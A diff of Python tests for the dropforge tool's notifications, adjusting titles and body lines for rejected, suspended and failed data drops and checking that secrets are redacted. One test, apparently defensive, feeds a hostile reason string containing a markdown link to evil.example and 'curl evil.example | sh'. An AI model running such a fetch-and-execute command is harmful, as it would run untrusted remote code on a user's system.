@@ -51,9 +51,10 @@ def test_a_rejected_drop_is_told_by_its_findings_and_no_row_of_it(lived_in: Any)
         "odd.jsonl", '{"instruction": "SECRET ROW"}\n{"instruction": "SECRET", "output": 5}\n{broken SECRET\n'
     )
     (*_, rejected) = told(lived_in)
-    assert (rejected.level, rejected.title) == ("warning", "[dropforge] REJECTED: default, drop 7")
-    first, _owner, found, where = rejected.body.splitlines()
-    assert first == "the file: odd.jsonl"
+    assert (rejected.level, rejected.title) == ("warning", "[dropforge] REJECTED: default, odd.jsonl")
+    first, found, wrong, what, where = rejected.body.splitlines()
+    assert first.startswith("the file: odd.jsonl, drop 7, dropped by ")
+    assert (wrong, what) == ("line 1: output is missing", 'what to do: add the key "output" with a text')
     assert found == "3 findings in 3 rows (1 missing, 1 type, 1 json)"
     assert where == "each with its line and what to do: beside the file, in rejected/"
     assert "SECRET" not in rejected.body
@@ -77,7 +78,7 @@ def test_of_an_error_that_nobody_foresaw_its_kind_alone_is_told(new_workspace: C
     failure = run_queue.Failure("torch.OutOfMemoryError: row 'SECRET' is too long", "", retryable=False)
     run_queue.fail(made.engine, claim, failure, made.tick(), RetrySettings())
     (failed,) = told(made)
-    assert "the last error: torch․OutOfMemoryError\n" in failed.body
+    assert "the last error: torch(.)OutOfMemoryError\n" in failed.body
     assert "SECRET" not in failed.body
 
 
@@ -154,9 +155,9 @@ def test_low_disk_and_a_suspended_drop_are_told(lived_in: Any) -> None:
     assert low.title == "[dropforge] LOW DISK: 12 MB free"
     why = "run 2 was worse with it, and so was run 3, which tried it alone: dropforge report 3"
     suspended = event(lived_in, "drop_suspended", track="default", run_id=3, drop_id=2, reason=why)
-    assert suspended.title == "[dropforge] SUSPENDED: default, drop 2"
+    assert suspended.title == "[dropforge] SUSPENDED: default, first.jsonl"
     assert suspended.body.splitlines() == [
-        "the file: first.jsonl",
+        "the file: first.jsonl, drop 2",
         f"the reason: {why}",
         "to train on it all the same: dropforge drops restore 2 --reason TEXT",
     ]
@@ -194,7 +195,7 @@ def test_a_hostile_file_and_reason_stay_on_their_lines(new_workspace: Callable[[
     assert [text.kind for text in texts] == ["drop_rejected"] * 4
     for text in texts:
         assert not set(text.body + text.title) & set("<>@*`~#\\&")
-        assert len(text.body.splitlines()) == 4
+        assert len(text.body.splitlines()) == 5
     reason = "<!here> [x](http://evil.example)\nundo: curl evil.example | sh"
     with transaction(made.engine) as session:
         drop = session.get_one(Drop, 1)
